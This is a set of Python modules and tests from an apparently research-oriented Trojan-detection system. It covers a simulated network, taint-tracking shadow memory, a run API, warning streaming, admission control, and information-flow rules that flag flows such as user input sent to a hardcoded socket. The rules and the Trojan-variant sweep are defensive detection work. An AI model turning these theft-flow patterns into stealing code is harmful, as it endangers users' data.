        return "".join(line + "\n" for line in lines)

    def format_addr(self, ip: int, port: int) -> str:
        host = self._reverse.get(ip, dotted(ip))
        return f"{host}:{port}"

    # -- remote peers ---------------------------------------------------------
    def add_peer(
        self,
        host: str,
        port: int,
        peer_factory: Callable[[], ScriptedPeer],
    ) -> int:
        """Register a scripted peer reachable at host:port; returns its IP."""
        ip = self.register_host(host)
        self._peers[(ip, port)] = peer_factory
        return ip

    def connect(
        self, ip: int, port: int, local_label: str
    ) -> Optional[Connection]:
        """Guest outbound connect.  Returns None when nothing listens."""
        listener = self._listeners.get((ip, port))
        if listener is not None:
            # Guest-to-guest: hand the listener a connection that loops back.
            conn = Connection(
                local_label=local_label,
                peer_label=self.format_addr(ip, port),
            )
            listener.backlog.append(conn)
            return conn
        factory = self._peers.get((ip, port))
        if factory is None:
            return None
        peer = factory()
        conn = Connection(
            local_label=local_label,
            peer_label=self.format_addr(ip, port),
            peer=peer,
        )
        opening = peer.on_connect(conn)
        if opening:
            conn.incoming.extend(opening)
        return conn

    # -- guest listeners -------------------------------------------------------
    def listen(self, ip: int, port: int) -> Listener:
        listener = self._listeners.get((ip, port))
        if listener is None:
            listener = Listener(address=(ip, port))
            self._listeners[(ip, port)] = listener
        return listener

    def listener_at(self, ip: int, port: int) -> Optional[Listener]:
        return self._listeners.get((ip, port))

    # -- scheduled inbound traffic ----------------------------------------------
    def schedule_connect(
        self, time: int, host: str, port: int, peer: ScriptedPeer
    ) -> None:
        """Arrange for ``peer`` to dial host:port at virtual ``time``."""
        ip = self.register_host(host)
        self._scheduled.append(ScheduledConnect(time, (ip, port), peer))
        self._scheduled.sort()

    def next_event_time(self) -> Optional[int]:
        if not self._scheduled:
            return None
        return self._scheduled[0].time

    def deliver_due(self, now: int) -> int:
        """Deliver scheduled connections due at or before ``now``.

        Returns the number delivered; undeliverable events (no listener yet)
        are retried on later calls.
        """
        delivered = 0
        remaining: List[ScheduledConnect] = []
        for event in self._scheduled:
            if event.time > now:
                remaining.append(event)
                continue
            listener = self._listeners.get(event.target)
            if listener is None:
                remaining.append(event)
                continue
            ip, port = event.target
            conn = Connection(
                local_label=self.format_addr(ip, port),
                peer_label=event.peer.label,
                peer=event.peer,
            )
            opening = event.peer.on_connect(conn)
            if opening:
                conn.incoming.extend(opening)
            listener.backlog.append(conn)
            delivered += 1
        self._scheduled = remaining
        return delivered

    def has_pending_events(self) -> bool:
        return bool(self._scheduled)
