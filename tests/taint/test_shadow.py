"""Tests for shadow register/memory tag stores."""

from hypothesis import given
from hypothesis import strategies as st

from repro.taint import EMPTY, DataSource, ShadowMemory, ShadowRegisters, TagSet


FILE_A = TagSet.of(DataSource.FILE, "/a")
SOCK = TagSet.of(DataSource.SOCKET, "h:1")


class TestShadowRegisters:
    def test_default_empty(self):
        regs = ShadowRegisters()
        assert regs.get("eax") is EMPTY

    def test_set_get(self):
        regs = ShadowRegisters()
        regs.set("eax", FILE_A)
        assert regs.get("eax") == FILE_A

    def test_setting_empty_removes_entry(self):
        regs = ShadowRegisters()
        regs.set("eax", FILE_A)
        regs.set("eax", EMPTY)
        assert regs.get("eax") is EMPTY
        assert regs.snapshot() == {}

    def test_clear(self):
        regs = ShadowRegisters()
        regs.set("ebx", SOCK)
        regs.clear()
        assert regs.get("ebx") is EMPTY

    def test_copy_is_independent(self):
        regs = ShadowRegisters()
        regs.set("eax", FILE_A)
        dup = regs.copy()
        dup.set("eax", SOCK)
        assert regs.get("eax") == FILE_A
        assert dup.get("eax") == SOCK


class TestShadowMemory:
    def test_default_empty(self):
        mem = ShadowMemory()
        assert mem.get(0x1000) is EMPTY
        assert len(mem) == 0

    def test_set_range_and_union(self):
        mem = ShadowMemory()
        mem.set_range(10, 5, FILE_A)
        mem.set(12, SOCK)
        combined = mem.union_of_range(10, 5)
        assert combined.has_source(DataSource.FILE)
        assert combined.has_source(DataSource.SOCKET)

    def test_set_range_negative_length(self):
        import pytest

        with pytest.raises(ValueError):
            ShadowMemory().set_range(0, -1, FILE_A)

    def test_set_range_empty_clears(self):
        mem = ShadowMemory()
        mem.set_range(0, 4, FILE_A)
        mem.set_range(0, 4, EMPTY)
        assert len(mem) == 0

    def test_get_range(self):
        mem = ShadowMemory()
        mem.set(1, FILE_A)
        assert mem.get_range(0, 3) == (EMPTY, FILE_A, EMPTY)

    def test_copy_within_non_overlapping(self):
        mem = ShadowMemory()
        mem.set_range(0, 3, FILE_A)
        mem.copy_within(0, 10, 3)
        assert mem.get(10) == FILE_A
        assert mem.get(12) == FILE_A

    def test_copy_within_overlapping_behaves_like_memmove(self):
        mem = ShadowMemory()
        mem.set(0, FILE_A)
        mem.set(1, SOCK)
        mem.copy_within(0, 1, 2)
        assert mem.get(1) == FILE_A
        assert mem.get(2) == SOCK

    def test_live_cells_sorted(self):
        mem = ShadowMemory()
        mem.set(5, FILE_A)
        mem.set(1, SOCK)
        assert [a for a, _ in mem.live_cells()] == [1, 5]

    def test_copy_is_independent(self):
        mem = ShadowMemory()
        mem.set(1, FILE_A)
        dup = mem.copy()
        dup.set(1, SOCK)
        assert mem.get(1) == FILE_A

    @given(st.integers(0, 50), st.integers(0, 20))
    def test_union_of_untouched_range_is_empty(self, start, length):
        mem = ShadowMemory()
        assert mem.union_of_range(start, length) is EMPTY
