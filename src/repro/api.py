"""repro.api — the one-import facade over the whole stack.

Benchmarks, tests, the CLI, and the fleet worker entrypoint used to
import five internal modules each (``repro.core.hth``,
``repro.harrier.config``, ``repro.telemetry``, ``repro.faultinject``,
``repro.isa.assembler``) just to run one guest.  This module collapses
that to::

    from repro.api import Session, RunOptions

    session = Session(RunOptions(metrics=True))
    report = session.run(program_image)           # or a source string
    report = session.run_workload(workload)       # a registry row

A :class:`Session` is a *warm* execution context: it owns an
:class:`~repro.core.engine.EngineCache` (translated-block store +
tag-set interner + assemble memo) that every run it makes reuses.  One
fleet worker builds one Session per shard; sweeps and benchmarks get
the same reuse for free.  Machines are still fresh per run — a Session
never shares kernel, filesystem, monitor, or analyzer state between
runs, so reports remain bit-identical to cold, one-shot execution
(``tests/harrier/test_blockcache_differential.py`` and the fleet
determinism suite hold that line).

Module-level :func:`run` / :func:`run_workload` are one-shot
conveniences that build a throwaway Session.
"""

from __future__ import annotations

from typing import Callable, Dict, Optional, Sequence, Union

from repro.cache.digest import CacheEnv, run_key, workload_key
from repro.cache.store import VerdictCache, bypass_reason
from repro.core.engine import EngineCache
from repro.core.hth import HTH
from repro.core.options import RunOptions
from repro.core.report import RunReport
from repro.isa.image import Image
from repro.programs.base import Workload
from repro.telemetry import Telemetry

SetupFn = Callable[[HTH], None]


class Session:
    """A warm run context: one options default + one engine cache.

    ``options`` set the session-wide defaults; every ``run*`` call may
    override them for that run.  ``telemetry`` (optional) is a *shared*
    hub sampled by every run — pass it when aggregating one registry
    across a sweep (``repro table --metrics``).  Without a shared hub,
    runs whose options request telemetry get a fresh hub each, and its
    snapshot travels inside the returned report — the shape the fleet
    coordinator merges.
    """

    def __init__(
        self,
        options: Optional[RunOptions] = None,
        telemetry: Optional[Telemetry] = None,
        cache: Optional[VerdictCache] = None,
    ) -> None:
        self.options = options if options is not None else RunOptions()
        self.telemetry = telemetry
        self.engine = EngineCache()
        #: Optional verdict cache (``repro.cache``).  When attached,
        #: cacheable runs are answered from it without executing and
        #: clean fresh reports populate it.  ``None`` (the default)
        #: keeps the historical always-execute behaviour.
        self.cache = cache
        self.runs = 0

    # -- verdict cache ----------------------------------------------------
    def _cache_key_for(self, options: RunOptions, telemetry, analyzer,
                       fault_injector=None, opaque_setup: bool = False,
                       key_fn=None):
        """The cache key for a run, or None (with the bypass counted)."""
        if self.cache is None:
            return None
        reason = bypass_reason(
            options,
            telemetry=telemetry if telemetry is not None else self.telemetry,
            fault_injector=fault_injector,
            analyzer=analyzer,
            opaque_setup=opaque_setup,
        )
        if reason is not None:
            self.cache.bypass(reason)
            return None
        return key_fn()

    # -- machine building --------------------------------------------------
    def machine(
        self,
        options: Optional[RunOptions] = None,
        telemetry: Optional[Telemetry] = None,
        fault_injector=None,
        setup: Optional[SetupFn] = None,
        analyzer=None,
    ) -> HTH:
        """A fresh monitored machine wired to this session's warm engine.

        ``analyzer`` overrides the default Secpert instance — the serve
        daemon passes a :class:`repro.serve.streaming.TapAnalyzer` here
        so warnings stream out as they fire.
        """
        options = options if options is not None else self.options
        hth = HTH(
            telemetry=telemetry if telemetry is not None else self.telemetry,
            fault_injector=fault_injector,
            options=options,
            engine=self.engine,
            analyzer=analyzer,
        )
        if setup is not None:
            setup(hth)
        return hth

    # -- running -----------------------------------------------------------
    def run(
        self,
        program: Union[str, Image],
        argv: Optional[Sequence[str]] = None,
        env: Optional[Dict[str, str]] = None,
        stdin: Optional[Union[str, bytes]] = None,
        setup: Optional[SetupFn] = None,
        options: Optional[RunOptions] = None,
        telemetry: Optional[Telemetry] = None,
        path: Optional[str] = None,
        analyzer=None,
        cache_env: Optional[CacheEnv] = None,
    ) -> RunReport:
        """Run one guest program and report.

        ``program`` is an assembled :class:`Image` or assembly source
        text (assembled through the warm memo as ``path``, default
        ``/bin/guest``).  ``setup(hth)`` runs before the guest — seed
        files, register peers, provide input.

        A run with a ``setup`` closure is opaque to the verdict cache
        unless ``cache_env`` declares the environment the closure builds
        (seeded files + peers); the CLI and the serve worker both derive
        their setup from exactly that declarative data.
        """
        if isinstance(program, str):
            program = self.engine.image(path or "/bin/guest", program)
        key = self._cache_key_for(
            options if options is not None else self.options,
            telemetry, analyzer,
            opaque_setup=(setup is not None and cache_env is None),
            key_fn=lambda: run_key(
                program,
                options if options is not None else self.options,
                argv=argv, env=env, stdin=stdin, cache_env=cache_env,
            ),
        )
        if key is not None:
            hit = self.cache.lookup(key)
            if hit is not None:
                self.runs += 1
                return hit
        hth = self.machine(
            options=options, telemetry=telemetry, setup=setup,
            analyzer=analyzer,
        )
        self.runs += 1
        report = hth.run(program, argv=argv, env=env, stdin=stdin)
        if key is not None:
            self.cache.store_report(key, report)
        return report

    def run_workload(
        self,
        workload: Workload,
        options: Optional[RunOptions] = None,
        telemetry: Optional[Telemetry] = None,
        fault_injector=None,
        analyzer=None,
    ) -> RunReport:
        """Run one registry :class:`Workload` (its setup/argv/stdin/budgets
        included) on this session's warm engine.

        Budgets travel inside ``options`` (``wall_timeout``) and the
        workload itself (``max_ticks``) — the cache key hashes both.
        """
        options = options if options is not None else self.options
        key = self._cache_key_for(
            options, telemetry, analyzer,
            fault_injector=fault_injector,
            key_fn=lambda: workload_key(
                workload, options, engine=self.engine
            ),
        )
        if key is not None:
            hit = self.cache.lookup(key)
            if hit is not None:
                self.runs += 1
                return hit
        self.runs += 1
        report = workload.run(
            telemetry=telemetry if telemetry is not None else self.telemetry,
            fault_injector=fault_injector,
            options=options,
            engine=self.engine,
            analyzer=analyzer,
        )
        if key is not None:
            self.cache.store_report(
                key, report, meta={"workload": workload.name}
            )
        return report


def run(
    program: Union[str, Image],
    options: Optional[RunOptions] = None,
    **kwargs,
) -> RunReport:
    """One-shot :meth:`Session.run` on a throwaway session."""
    return Session(options).run(program, **kwargs)


def run_workload(
    workload: Workload,
    options: Optional[RunOptions] = None,
    **kwargs,
) -> RunReport:
    """One-shot :meth:`Session.run_workload` on a throwaway session."""
    return Session(options).run_workload(workload, **kwargs)


def sweep(**kwargs):
    """Adversarial variant sweep (see :func:`repro.advers.run_sweep`):
    generate seed-deterministic Trojan variants, fan them through the
    fleet engine, and return the detection-rate matrix."""
    from repro.advers import run_sweep  # local: advers drags in the fleet

    return run_sweep(**kwargs)


__all__ = [
    "CacheEnv",
    "Session",
    "RunOptions",
    "RunReport",
    "VerdictCache",
    "run",
    "run_workload",
    "sweep",
]
