"""Live warning streaming: tap Secpert's advice as it fires.

The batch stack only surfaces warnings in the final
:class:`~repro.core.report.RunReport`; the serve daemon's promise is
run-*time* monitoring — a warning reaches the submitting client while
the guest is still executing.  :class:`TapAnalyzer` is the whole
mechanism: it wraps the real analyzer (Secpert), forwards every event
unchanged, and calls a callback for each warning the inner analyzer
produces, in firing order.

The tap is observably transparent to the run itself: ``analyze`` returns
exactly the inner analyzer's warnings (so kill decisions are unchanged),
and the report-facing surfaces (``warnings``, ``quarantined_rules``,
``secpert``, ``attach_telemetry``) delegate — a tapped run's RunReport
is bit-identical to an untapped one.  A raising callback must never
take down the monitor, so callback errors are swallowed after the first
(the stream just goes quiet, the run completes).
"""

from __future__ import annotations

from typing import Callable, List, Optional, Sequence

from repro.harrier.analyzer import EventAnalyzer
from repro.harrier.events import SecurityEvent
from repro.secpert.secpert import Secpert
from repro.secpert.warnings import SecurityWarning

WarningCallback = Callable[[int, SecurityWarning], None]


def warning_to_wire(warning: SecurityWarning) -> dict:
    """The JSON-safe shape of one streamed warning (matches the warning
    entries inside ``RunReport.to_dict()``, plus the advice lines)."""
    return {
        "rule": warning.rule,
        "severity": warning.severity.label(),
        "headline": warning.headline,
        "details": [str(d) for d in warning.details],
        "pid": warning.pid,
        "time": warning.time,
        "evidence": warning.evidence,
    }


class TapAnalyzer(EventAnalyzer):
    """Wrap an analyzer; invoke ``on_warning(seq, warning)`` per warning."""

    def __init__(
        self,
        inner: EventAnalyzer,
        on_warning: WarningCallback,
    ) -> None:
        self.inner = inner
        self.on_warning = on_warning
        self.emitted = 0
        self.callback_broken = False

    # -- EventAnalyzer -----------------------------------------------------
    def analyze(self, event: SecurityEvent) -> Sequence[SecurityWarning]:
        warnings = self.inner.analyze(event)
        for warning in warnings:
            seq = self.emitted
            self.emitted += 1
            if not self.callback_broken:
                try:
                    self.on_warning(seq, warning)
                except Exception:
                    # The stream is best-effort; the run (and its final
                    # report, which carries every warning) must survive
                    # a dead client or a full pipe.
                    self.callback_broken = True
        return warnings

    # -- report-facing delegation -----------------------------------------
    @property
    def warnings(self) -> List[SecurityWarning]:
        return getattr(self.inner, "warnings", [])

    @property
    def quarantined_rules(self) -> List[str]:
        return list(getattr(self.inner, "quarantined_rules", []))

    @property
    def secpert(self) -> Optional[Secpert]:
        if isinstance(self.inner, Secpert):
            return self.inner
        return getattr(self.inner, "secpert", None)

    def attach_telemetry(self, telemetry) -> None:
        attach = getattr(self.inner, "attach_telemetry", None)
        if attach is not None:
            attach(telemetry)

    def attach_provenance(self, recorder) -> None:
        attach = getattr(self.inner, "attach_provenance", None)
        if attach is not None:
            attach(recorder)
