"""Admission control under a fake clock: every decision deterministic.

The daemon's bounded-memory and fairness promises reduce to these unit
properties: the queue cap is hard, tenant buckets refill exactly at
their configured rates, tick budgets price big runs proportionally, and
every rejection carries a stable reason string plus a metrics count.
"""

import pytest

from repro.serve.admission import (
    REASON_QUEUE_FULL,
    REASON_RATE_LIMITED,
    REASON_SHUTTING_DOWN,
    REASON_TICK_BUDGET,
    AdmissionController,
    TokenBucket,
)
from repro.telemetry.metrics import MetricsRegistry


class FakeClock:
    def __init__(self, start: float = 100.0) -> None:
        self.now = start

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


class TestTokenBucket:
    def test_burst_then_refusal(self):
        clock = FakeClock()
        bucket = TokenBucket(rate=1.0, burst=3.0, clock=clock)
        assert [bucket.try_take() for _ in range(4)] == [
            True, True, True, False
        ]

    def test_refills_at_rate_capped_at_burst(self):
        clock = FakeClock()
        bucket = TokenBucket(rate=2.0, burst=4.0, clock=clock)
        for _ in range(4):
            assert bucket.try_take()
        clock.advance(1.0)          # +2 tokens
        assert bucket.tokens == pytest.approx(2.0)
        clock.advance(100.0)        # way past burst: capped
        assert bucket.tokens == pytest.approx(4.0)

    def test_cost_weighted_take(self):
        bucket = TokenBucket(rate=1.0, burst=10.0, clock=FakeClock())
        assert bucket.try_take(cost=7.0)
        assert not bucket.try_take(cost=4.0)
        assert bucket.try_take(cost=3.0)

    def test_rejects_nonpositive_parameters(self):
        with pytest.raises(ValueError):
            TokenBucket(rate=0, burst=1)
        with pytest.raises(ValueError):
            TokenBucket(rate=1, burst=0)


class TestQueueBound:
    def test_queue_limit_is_hard(self):
        admission = AdmissionController(queue_limit=2)
        assert admission.try_admit("t", 1000) is None
        assert admission.try_admit("t", 1000) is None
        assert admission.try_admit("t", 1000) == REASON_QUEUE_FULL

    def test_release_frees_a_slot(self):
        admission = AdmissionController(queue_limit=1)
        assert admission.try_admit("t", 1) is None
        assert admission.try_admit("t", 1) == REASON_QUEUE_FULL
        admission.release()
        assert admission.try_admit("t", 1) is None

    def test_release_never_goes_negative(self):
        admission = AdmissionController(queue_limit=1)
        admission.release()
        assert admission.depth == 0

    def test_queue_limit_must_be_positive(self):
        with pytest.raises(ValueError):
            AdmissionController(queue_limit=0)


class TestTenantMeters:
    def _admission(self, **kwargs):
        clock = FakeClock()
        admission = AdmissionController(
            queue_limit=1000, clock=clock, **kwargs
        )
        return admission, clock

    def test_rate_none_runs_wide_open(self):
        admission, _ = self._admission()
        for _ in range(100):
            assert admission.try_admit("hot", 10 ** 9) is None

    def test_submission_rate_limit_per_tenant(self):
        admission, clock = self._admission(rate=1.0, burst=2.0)
        assert admission.try_admit("a", 1) is None
        assert admission.try_admit("a", 1) is None
        assert admission.try_admit("a", 1) == REASON_RATE_LIMITED
        # a hot tenant does not starve a quiet one
        assert admission.try_admit("b", 1) is None
        clock.advance(1.0)
        assert admission.try_admit("a", 1) is None

    def test_tick_budget_prices_compute_not_requests(self):
        admission, clock = self._admission(
            tick_rate=1000.0, tick_burst=5000.0
        )
        # one huge submission drains what five small ones would
        assert admission.try_admit("a", 5000) is None
        assert admission.try_admit("a", 100) == REASON_TICK_BUDGET
        # small submissions from another tenant unaffected
        assert admission.try_admit("b", 100) is None
        clock.advance(1.0)  # +1000 ticks of allowance
        assert admission.try_admit("a", 900) is None

    def test_rate_checked_before_tick_budget(self):
        admission, _ = self._admission(
            rate=1.0, burst=1.0, tick_rate=10.0, tick_burst=10.0
        )
        assert admission.try_admit("a", 10 ** 6) == REASON_TICK_BUDGET
        assert admission.try_admit("a", 1) == REASON_RATE_LIMITED


class TestTwoPhaseAdmission:
    """The precheck/claim_slot split the daemon orders around the
    verdict cache: rate is metered before any per-submission compute
    (hits included), slots and tick budget only on real execution."""

    def test_precheck_charges_rate_but_claims_no_slot(self):
        admission = AdmissionController(
            queue_limit=5, rate=1.0, burst=2.0, clock=FakeClock()
        )
        assert admission.precheck("t") is None
        assert admission.precheck("t") is None
        assert admission.depth == 0
        assert admission.precheck("t") == REASON_RATE_LIMITED

    def test_claim_slot_charges_depth_and_ticks_only(self):
        admission = AdmissionController(
            queue_limit=1, rate=1.0, burst=1.0,
            tick_rate=100.0, tick_burst=100.0, clock=FakeClock(),
        )
        assert admission.claim_slot("t", 100) is None
        assert admission.depth == 1
        # the submission-rate bucket was untouched by claim_slot
        assert admission.precheck("t") is None
        assert admission.claim_slot("t", 1) == REASON_QUEUE_FULL
        admission.release()
        assert admission.claim_slot("t", 1) == REASON_TICK_BUDGET

    def test_both_phases_reject_while_draining(self):
        admission = AdmissionController(queue_limit=5)
        admission.drain()
        assert admission.precheck("t") == REASON_SHUTTING_DOWN
        assert admission.claim_slot("t", 1) == REASON_SHUTTING_DOWN

    def test_try_admit_is_the_composition(self):
        admission = AdmissionController(
            queue_limit=5, rate=1.0, burst=1.0, clock=FakeClock()
        )
        assert admission.try_admit("t", 1) is None
        assert admission.depth == 1
        assert admission.try_admit("t", 1) == REASON_RATE_LIMITED


class TestDrainAndMetrics:
    def test_drain_rejects_everything_after(self):
        admission = AdmissionController(queue_limit=10)
        assert admission.try_admit("t", 1) is None
        admission.drain()
        assert admission.try_admit("t", 1) == REASON_SHUTTING_DOWN

    def test_every_decision_is_counted(self):
        registry = MetricsRegistry()
        admission = AdmissionController(
            queue_limit=1, metrics=registry
        )
        admission.try_admit("t", 1)
        admission.try_admit("t", 1)   # queue-full
        admission.drain()
        admission.try_admit("t", 1)   # shutting-down
        assert registry.value("serve_admitted_total", tenant="t") == 1
        assert registry.value(
            "serve_rejected_total", tenant="t", reason=REASON_QUEUE_FULL
        ) == 1
        assert registry.value(
            "serve_rejected_total", tenant="t", reason=REASON_SHUTTING_DOWN
        ) == 1
        assert registry.value("serve_queue_depth") == 1
        admission.release()
        assert registry.value("serve_queue_depth") == 0
