"""Information-flow rules (paper section 4.3).

All rules match ``data_transfer`` facts with ``direction == "write"`` —
writes are where information leaves the program.  The grading follows the
policy tables in section 4.3 plus the concrete warning outputs of section
8 (which pin down the cases the rule listing leaves implicit):

====================  =====================  ==========
flow                   identifier origins     severity
====================  =====================  ==========
BINARY -> FILE         file name hardcoded    High   (grabem, vixie, uttt)
BINARY -> FILE         file name from socket  High
BINARY -> SOCKET       address hardcoded      Low    (pwsafe, xeyes)
USER INPUT -> FILE     file name hardcoded    High   (complete grabem)
USER INPUT -> SOCKET   address hardcoded      High   (PWSteal pattern)
FILE -> FILE           user+hard / hard+user  Low
FILE -> FILE           hard+hard              High
FILE -> SOCKET         user+hard / hard+user  Low
FILE -> SOCKET         hard+hard              High
FILE -> server socket  file name hardcoded    High   (pma outpipe->socket)
SOCKET -> FILE         grid as FILE->FILE     Low/High
server socket -> FILE  file name hardcoded    High   (pma socket->inpipe)
HARDWARE -> FILE       file name hardcoded    High
HARDWARE -> SOCKET     address hardcoded      High   (inferred; PWSteal
                                                      sends a machine ID)
====================  =====================  ==========

Flows whose identifiers are all user-supplied are trusted (no warning).
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from repro.expert.conditions import Pattern, Test, V
from repro.expert.engine import Rule, RuleContext
from repro.secpert.policy import PolicyConfig
from repro.secpert.warnings import SecurityWarning, Severity, WarningSink
from repro.taint.tags import DataSource, Tag, TagSet


def _origin_note(
    policy: PolicyConfig, what: str, origin: TagSet
) -> Optional[str]:
    """One human-readable line about where an identifier came from."""
    binaries = policy.filter_binary(origin)
    sockets = policy.filter_socket(origin)
    if binaries:
        names = ", ".join(f'("{b}")' for b in binaries)
        return f"{what} was hardcoded in: {names}"
    if sockets:
        names = ", ".join(f'("{s}")' for s in sockets)
        return f"{what} originated from a socket: {names}"
    if origin.has_source(DataSource.USER_INPUT):
        return f"{what} was given by the user"
    return None


class _FlowRuleBuilder:
    """Shared vocabulary for the information-flow productions."""

    def __init__(self, policy: PolicyConfig) -> None:
        self.policy = policy

    # -- fact views ------------------------------------------------------------
    def _target_desc(self, ctx: RuleContext) -> str:
        if ctx["resource_type"] == "SOCKET":
            return f"{ctx['resource_name']} (AF_INET)"
        return str(ctx["resource_name"])

    def _rare_note(self, ctx: RuleContext) -> List[str]:
        if self.policy.is_rare(ctx["frequency"], ctx["time"]):
            return ["This code is rarely executed..."]
        return []

    def _server_target_notes(self, ctx: RuleContext) -> List[str]:
        server = ctx.get("server_socket")
        if not server:
            return []
        notes = [
            "This program has opened a socket for remote connections. "
            f"i.e. it is a server with the address: {server} (AF_INET)"
        ]
        note = _origin_note(
            self.policy, "the server address", ctx["server_origin"]
        )
        if note:
            notes.append(note)
        return notes

    def _server_source_notes(self, ctx: RuleContext) -> List[str]:
        server = ctx.get("source_server_socket")
        if not server:
            return []
        notes = [
            "This program has opened a socket for remote connections. "
            f"i.e. it is a server with the address: {server} (AF_INET)"
        ]
        note = _origin_note(
            self.policy, "the server address", ctx["source_server_origin"]
        )
        if note:
            notes.append(note)
        return notes

    def _warn(
        self,
        ctx: RuleContext,
        rule: str,
        severity: Severity,
        headline: str,
        details: List[str],
    ) -> None:
        sink: WarningSink = ctx.context["warn"]
        sink.add(
            SecurityWarning(
                severity=severity,
                rule=rule,
                headline=headline,
                details=tuple(d for d in details if d),
                pid=ctx["pid"],
                time=ctx["time"],
            )
        )

    # -- severity grid for named-source flows ------------------------------------
    def _grade_flow(
        self,
        source_origin: TagSet,
        target_origin: TagSet,
        source_server_hardcoded: bool,
        target_server_hardcoded: bool,
    ) -> Optional[Severity]:
        """Section 4.3 rule 1's grid, extended with server context.

        An endpoint counts as "hardcoded" when its own identifier came
        from an untrusted binary or a socket, *or* when it is a connection
        accepted on a server socket whose address was hardcoded (the pma
        relay case, section 8.3.6).
        """
        policy = self.policy
        s_hard = (
            policy.is_hardcoded(source_origin)
            or policy.from_socket(source_origin)
            or source_server_hardcoded
        )
        t_hard = (
            policy.is_hardcoded(target_origin)
            or policy.from_socket(target_origin)
            or target_server_hardcoded
        )
        s_user = policy.from_user(source_origin)
        t_user = policy.from_user(target_origin)
        if s_hard and t_hard:
            return Severity.HIGH
        if s_hard and t_user:
            return Severity.LOW
        if s_user and t_hard:
            return Severity.LOW
        if s_hard or t_hard:
            # The other side has no recorded origin (e.g. an accepted
            # connection on a user-named server): suspicious, unconfirmed.
            return Severity.LOW
        return None


def build_info_flow_rules(policy: PolicyConfig) -> List[Rule]:
    b = _FlowRuleBuilder(policy)
    rules: List[Rule] = []

    write_pattern = Pattern(
        "data_transfer",
        direction="write",
        resource_name=V("resource_name"),
        resource_type=V("resource_type"),
        data_tags=V("data_tags"),
        resource_origin=V("resource_origin"),
        source_origins=V("source_origins"),
        server_socket=V("server_socket"),
        server_origin=V("server_origin"),
        source_server_socket=V("source_server_socket"),
        source_server_origin=V("source_server_origin"),
        content_type=V("content_type"),
        time=V("time"),
        frequency=V("frequency"),
        pid=V("pid"),
    )

    # ---- BINARY data -> file / socket ------------------------------------
    def binary_flow_applies(bindings) -> bool:
        data: TagSet = bindings["data_tags"]
        if not policy.filter_binary(data):
            return False
        target: TagSet = bindings["resource_origin"]
        if bindings["resource_type"] == "FILE":
            return policy.is_hardcoded(target) or policy.from_socket(target)
        if bindings["resource_type"] == "SOCKET":
            return (
                policy.is_hardcoded(target)
                or policy.is_hardcoded(bindings["server_origin"])
            )
        return False

    def binary_flow_action(ctx: RuleContext) -> None:
        data: TagSet = ctx["data_tags"]
        target_origin: TagSet = ctx["resource_origin"]
        name = ctx["resource_name"]
        binaries = policy.filter_binary(data)
        if ctx["resource_type"] == "FILE":
            details: List[str] = []
            for binary in binaries:
                details.append(
                    "The Data written to this file is originated from the "
                    f'BINARY:("{binary}")'
                )
            if policy.is_hardcoded(target_origin):
                names = ", ".join(
                    f'("{o}")' for o in policy.filter_binary(target_origin)
                )
                details.append(
                    f"Moreover, it seems that the name of the file: {name} "
                    f"originated from a BINARY: {names}"
                )
            else:  # remote-supplied file name
                socks = ", ".join(
                    f'("{s}")' for s in policy.filter_socket(target_origin)
                )
                details.append(
                    f"Moreover, the name of the file: {name} originated "
                    f"from a socket: {socks}"
                )
            details.extend(b._rare_note(ctx))
            b._warn(
                ctx,
                "check_binary_to_file",
                Severity.HIGH,
                f"Found Write call to {name}",
                details,
            )
            return
        # SOCKET target: one warning per untrusted binary source (the
        # paper's pwsafe run emits one per shared object).
        server_hardcoded = policy.is_hardcoded(ctx["server_origin"])
        severity = Severity.HIGH if server_hardcoded else Severity.LOW
        for binary in binaries:
            details = [
                f"Data Flowing From: {binary} To: {b._target_desc(ctx)}",
            ]
            if policy.is_hardcoded(target_origin):
                names = ", ".join(
                    f'("{o}")' for o in policy.filter_binary(target_origin)
                )
                details.append(
                    f"target (client) socket-name was hardcoded in: {names}"
                )
            details.extend(b._server_target_notes(ctx))
            details.extend(b._rare_note(ctx))
            b._warn(
                ctx,
                "check_binary_to_socket",
                severity,
                "Found Write call",
                details,
            )

    rules.append(
        Rule(
            name="check_binary_flow",
            doc="Hardcoded data flowing to a file or socket",
            lhs=[write_pattern, Test(binary_flow_applies)],
            action=binary_flow_action,
        )
    )

    # ---- USER INPUT data -> hardcoded file / socket -------------------------
    def user_flow_applies(bindings) -> bool:
        data: TagSet = bindings["data_tags"]
        if not data.has_source(DataSource.USER_INPUT):
            return False
        target: TagSet = bindings["resource_origin"]
        return policy.is_hardcoded(target) and bindings["resource_type"] in (
            "FILE",
            "SOCKET",
        )

    def user_flow_action(ctx: RuleContext) -> None:
        name = ctx["resource_name"]
        kind = "file" if ctx["resource_type"] == "FILE" else "socket"
        names = ", ".join(
            f'("{o}")' for o in policy.filter_binary(ctx["resource_origin"])
        )
        details = [
            f"Data typed by the user is written to the {kind}: {name}",
            f"the {kind} name was hardcoded in: {names}",
        ]
        details.extend(b._server_target_notes(ctx))
        details.extend(b._rare_note(ctx))
        b._warn(
            ctx,
            "check_user_input_flow",
            Severity.HIGH,
            f"Found Write call to {name}",
            details,
        )

    rules.append(
        Rule(
            name="check_user_input_flow",
            doc="User input captured into a hardcoded file or socket",
            lhs=[write_pattern, Test(user_flow_applies)],
            action=user_flow_action,
        )
    )

    # ---- HARDWARE data -> hardcoded file / socket -----------------------------
    def hardware_flow_applies(bindings) -> bool:
        data: TagSet = bindings["data_tags"]
        if not data.has_source(DataSource.HARDWARE):
            return False
        return policy.is_hardcoded(bindings["resource_origin"])

    def hardware_flow_action(ctx: RuleContext) -> None:
        name = ctx["resource_name"]
        kind = "file" if ctx["resource_type"] == "FILE" else "socket"
        names = ", ".join(
            f'("{o}")' for o in policy.filter_binary(ctx["resource_origin"])
        )
        details = [
            "The Data written is originated from the HARDWARE",
            f"the {kind} name: {name} was hardcoded in: {names}",
        ]
        details.extend(b._rare_note(ctx))
        b._warn(
            ctx,
            "check_hardware_flow",
            Severity.HIGH,
            f"Found Write call to {name}",
            details,
        )

    rules.append(
        Rule(
            name="check_hardware_flow",
            doc="Hardware-identifying data flowing to a hardcoded resource",
            lhs=[write_pattern, Test(hardware_flow_applies)],
            action=hardware_flow_action,
        )
    )

    # ---- named-resource flows: FILE/SOCKET source -> FILE/SOCKET target -------
    def resource_flow_pairs(
        bindings,
    ) -> List[Tuple[Tag, TagSet, Severity]]:
        source_server_hard = policy.is_hardcoded(
            bindings["source_server_origin"]
        )
        target_server_hard = policy.is_hardcoded(bindings["server_origin"])
        out = []
        for tag, source_origin in bindings["source_origins"]:
            severity = b._grade_flow(
